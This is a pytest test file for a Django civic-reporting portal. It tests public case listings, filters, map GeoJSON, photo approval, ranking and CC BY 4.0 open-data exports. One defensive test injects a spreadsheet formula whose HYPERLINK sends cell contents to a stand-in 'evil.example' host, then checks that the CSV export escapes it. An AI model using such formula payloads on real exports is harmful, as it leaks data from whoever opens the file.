import csv
import datetime as dt
import io
import json
import re

import pytest
import time_machine
from django.urls import reverse

from ventanilla.cases import services as case_services
from ventanilla.cases.tests.factories import make_council, make_department, make_staff
from ventanilla.cases.workflow import Status
from ventanilla.portal import exports, services
from ventanilla.portal.tests.factories import (
    make_private_category,
    make_public_category,
    message_with_photo,
    open_case,
    record_of,
)

pytestmark = pytest.mark.django_db

PAGES = ["home", "records", "ranking", "map", "statistics", "open_data"]


@pytest.fixture
def council():
    return make_council(name="Villaverde")


def references(response):
    return set(re.findall(r"\b20[0-9]{2}-[0-9]{6}\b", response.content.decode()))


@pytest.mark.parametrize("name", PAGES)
def test_every_page_answers_without_login_and_without_inline_code(client, council, name):
    open_case(category=make_public_category(council=council))
    response = client.get(reverse(f"portal:{name}"))
    assert response.status_code == 200
    html = response.content.decode()
    assert '<html lang="es">' in html
    assert "<main" in html and 'id="main"' in html
    # the Content Security Policy allows no inline script or style
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)
    assert " style=" not in html and "<style" not in html


@pytest.mark.parametrize("language", ["es", "ca", "en"])
def test_pages_follow_the_chosen_language(client, council, language):
    client.cookies["django_language"] = language
    response = client.get(reverse("portal:records"))
    assert f'<html lang="{language}">' in response.content.decode()


def test_the_list_shows_public_cases_only(client, council):
    public = make_public_category(council=council)
    shown = open_case(category=public)
    private = open_case(category=make_private_category(council=council))
    withdrawn = open_case(category=public)
    services.withdraw_case(case=withdrawn, reason="Datos personales en la foto")
    other_council = open_case(category=make_public_category(council=make_council()))
    found = references(client.get(reverse("portal:records")))
    assert shown.reference in found
    assert private.reference not in found and withdrawn.reference not in found
    assert other_council.reference not in found or other_council.reference == shown.reference


def test_a_summary_is_shown_only_once_approved(client, council):
    case = open_case(
        category=make_public_category(council=council), description="Bache enorme en la acera"
    )
    page = client.get(reverse("portal:record", args=[case.reference])).content.decode()
    assert "Bache enorme" not in page  # the draft is for staff only
    services.update_public_summary(case=case, text="Bache enorme en la acera")
    page = client.get(reverse("portal:record", args=[case.reference])).content.decode()
    assert "Bache enorme en la acera" in page


@time_machine.travel(dt.datetime(2026, 3, 10, 9, 0, tzinfo=dt.UTC))
def test_list_filters(client, council):
    lighting = make_public_category(council=council, code="alumbrado")
    other_department = make_department(council=council)
    potholes = make_public_category(council=council, code="baches", department=other_department)
    lamp = open_case(category=lighting, address="Calle Mayor 3", latitude=40.0, longitude=-3.0)
    services.update_public_summary(case=lamp, text="Farola apagada")
    hole = open_case(
        category=potholes,
        status=Status.RESOLVED,
        address="Calle Olmo 1",
        latitude=41.0,
        longitude=2.0,
    )
    with time_machine.travel(dt.datetime(2026, 1, 5, 9, 0, tzinfo=dt.UTC)):
        old = open_case(category=lighting)

    def listed(**params):
        return references(client.get(reverse("portal:records"), params))

    everything = {lamp.reference, hole.reference, old.reference}
    assert listed() == everything
    assert listed(category="baches") == {hole.reference}
    assert listed(department=other_department.pk) == {hole.reference}
    assert listed(status="open") == {lamp.reference, old.reference}
    assert listed(status="closed") == {hole.reference}
    assert listed(status="resolved") == {hole.reference}
    assert listed(start="2026-03-01") == {lamp.reference, hole.reference}
    assert listed(end="2026-01-31") == {old.reference}
    assert listed(area="olmo") == {hole.reference}
    assert listed(q="farola") == {lamp.reference}
    assert listed(bbox="-4,39.5,-2,40.5") == {lamp.reference}
    # an invalid filter is reported and left out, never an error page
    response = client.get(reverse("portal:records"), {"bbox": "nonsense", "start": "32/13"})
    assert response.status_code == 200 and references(response) == everything


def test_the_list_does_not_query_per_case(client, council, django_assert_max_num_queries):
    categories = [make_public_category(council=council) for _ in range(3)]
    for i in range(30):
        open_case(category=categories[i % 3], address=f"Calle {i}")
    with django_assert_max_num_queries(10):
        response = client.get(reverse("portal:records"))
    assert len(references(response)) == 20  # one page
    with django_assert_max_num_queries(10):
        client.get(reverse("portal:home"))
    with django_assert_max_num_queries(10):
        client.get(reverse("portal:ranking"))
    with django_assert_max_num_queries(8):
        client.get(reverse("portal:map_data"))
    with django_assert_max_num_queries(10):
        client.get(reverse("portal:records_csv"))


def test_case_page_shows_its_public_history(client, council):
    case = open_case(category=make_public_category(council=council), status=Status.RESOLVED)
    response = client.get(reverse("portal:record", args=[case.reference]))
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count("<time") >= 4  # reported, deadline, resolved and the history
    assert f"{Status.RESOLVED.label}" in html


def test_hidden_cases_have_no_page(client, council):
    private = open_case(category=make_private_category(council=council))
    withdrawn = open_case(category=make_public_category(council=council))
    services.withdraw_case(case=withdrawn, reason="Error")
    for case in (private, withdrawn):
        assert client.get(reverse("portal:record", args=[case.reference])).status_code == 404
    assert client.get(reverse("portal:record", args=["2026-999999"])).status_code == 404


def test_map_data_is_geojson_of_located_cases(client, council):
    category = make_public_category(council=council)
    located = open_case(category=category, latitude=40.4169, longitude=-3.7033)
    open_case(category=category)  # no location
    data = client.get(reverse("portal:map_data")).json()
    assert data["type"] == "FeatureCollection" and not data["truncated"]
    [feature] = data["features"]
    record = record_of(located)
    assert feature["geometry"] == {
        "type": "Point",
        "coordinates": [record.longitude, record.latitude],
    }
    assert feature["properties"]["reference"] == located.reference
    assert client.get(reverse("portal:map_data"), {"bbox": "0,0,1,1"}).json()["features"] == []


def test_map_page_passes_the_tiles_url_as_data(client, council, settings):
    settings.TILES_URL = "https://tiles.example.org/{z}/{x}/{y}.png"
    html = client.get(reverse("portal:map")).content.decode()
    assert 'data-tiles-url="https://tiles.example.org/{z}/{x}/{y}.png"' in html
    assert reverse("portal:map_data") in html
    assert "portal/map.js" in html and "leaflet.js" in html


def test_photos_are_served_only_once_approved_and_while_public(client, council):
    agent = make_staff(council=council)
    case = open_case(category=make_public_category(council=council))
    attachment = message_with_photo(case=case)
    page = client.get(reverse("portal:record", args=[case.reference])).content.decode()
    assert "<img" not in page
    photo = services.approve_photo(attachment=attachment, by=agent)
    url = reverse("portal:photo", args=[case.reference, photo.pk])
    page = client.get(reverse("portal:record", args=[case.reference])).content.decode()
    assert url in page and "IMG_Lucia" not in page
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    services.withdraw_case(case=case, reason="Se ve una matrícula", by=agent)
    assert client.get(url).status_code == 404


def test_ranking_lists_the_most_supported_open_cases(client, council):
    category = make_public_category(council=council)
    little, most, closed = (open_case(category=category) for _ in range(3))
    for case, count in ((little, 1), (most, 3), (closed, 5)):
        for n in range(count):
            services.support_case(record=record_of(case), browser_token=f"b{n}")
    case_services.change_status(case=closed, status=Status.REJECTED)
    html = client.get(reverse("portal:ranking")).content.decode()
    assert html.index(most.reference) < html.index(little.reference)
    assert closed.reference not in html


def test_downloads_carry_the_licence_and_only_public_data(client, council):
    category = make_public_category(council=council, code="alumbrado")
    case = open_case(category=category, latitude=40.4169, longitude=-3.7033)
    services.update_public_summary(case=case, text="Farola apagada")
    private = open_case(category=make_private_category(council=council))

    response = client.get(reverse("portal:records_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'rel="license"' in response["Link"]
    lines = response.content.decode().splitlines()
    assert lines[0].startswith("# ") and "CC BY 4.0" in lines[0]
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
    assert [r["reference"] for r in rows] == [case.reference]
    assert rows[0]["summary"] == "Farola apagada" and rows[0]["status"] == "open"
    assert rows[0]["service_code"] == "alumbrado"

    document = client.get(reverse("portal:records_json")).json()
    assert document["licence"]["name"] == "CC BY 4.0"
    assert [r["reference"] for r in document["cases"]] == [case.reference]
    assert private.reference not in json.dumps(document)

    filtered = client.get(reverse("portal:records_json"), {"status": "closed"}).json()
    assert filtered["cases"] == []


def test_statistics_downloads(client, council):
    open_case(category=make_public_category(council=council))
    open_case(category=make_private_category(council=council))
    response = client.get(reverse("portal:statistics_csv"))
    lines = response.content.decode().splitlines()
    assert "CC BY 4.0" in lines[0]
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
    total = rows[0]
    assert (total["group"], total["received"], total["published"]) == ("total", "2", "1")
    assert {r["key"] for r in rows if r["group"] == "category"} >= {"private"}
    document = client.get(reverse("portal:statistics_json"), {"start": "2020-01-01"}).json()
    assert document["period"]["start"] == "2020-01-01"
    assert document["statistics"][0]["received"] == 2


def test_statistics_page_has_tables_and_charts(client, council):
    open_case(category=make_public_category(council=council), status=Status.RESOLVED)
    html = client.get(reverse("portal:statistics")).content.decode()
    assert html.count('<svg class="portal-chart"') == 3
    assert 'role="img"' in html and "<title" in html
    assert '<th scope="col">' in html and '<th scope="row">' in html
    bad = client.get(reverse("portal:statistics"), {"start": "2026-05-01", "end": "2026-01-01"})
    assert bad.status_code == 200 and 'role="alert"' in bad.content.decode()


def test_no_council_means_no_public_pages(client):
    assert client.get(reverse("portal:home")).status_code == 200
    assert client.get(reverse("portal:records")).status_code == 404


def test_a_renamed_department_keeps_its_public_history_under_its_new_name(client, council):
    roads = make_department(council=council, name="Vías Públicas")
    case = open_case(category=make_private_category(council=council))
    case_services.transfer_case(case=case, department=roads)
    roads.name_es = "Movilidad"
    roads.save()
    # Published after the transfer and the renaming: the public history is built then.
    case_services.change_category(
        case=case, category=make_public_category(council=council, department=roads)
    )
    html = client.get(reverse("portal:record", args=[case.reference])).content.decode()
    history = html[html.index('id="case-history"') :]
    assert "Movilidad" in history and "Vías Públicas" not in html


@pytest.mark.parametrize("start", ["=", "+", "-"])  # "@…" is redacted as a handle anyway
def test_open_data_csv_cells_never_start_a_formula(client, council, start):
    category = make_public_category(council=council, code="alumbrado")
    case = open_case(category=category, latitude=40.4169, longitude=-3.7033)
    formula = f'{start}1+HYPERLINK("http://evil.example/?"&A1,"Pulse aquí")'
    services.update_public_summary(case=case, text=formula)
    lines = client.get(reverse("portal:records_csv")).content.decode().split("\n")
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
    assert rows[0]["summary"].startswith(f"'{start}1+HYPERLINK")
    assert rows[0]["longitude"].startswith("-3.70")  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\tHYPERLINK(1)", "'\tHYPERLINK(1)"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Farola", "Farola"),
        (-3.7, -3.7),
        (None, ""),
    ],
)
def test_csv_cells_are_neutralised(value, cell):
    assert exports.csv_cell(value) == cell
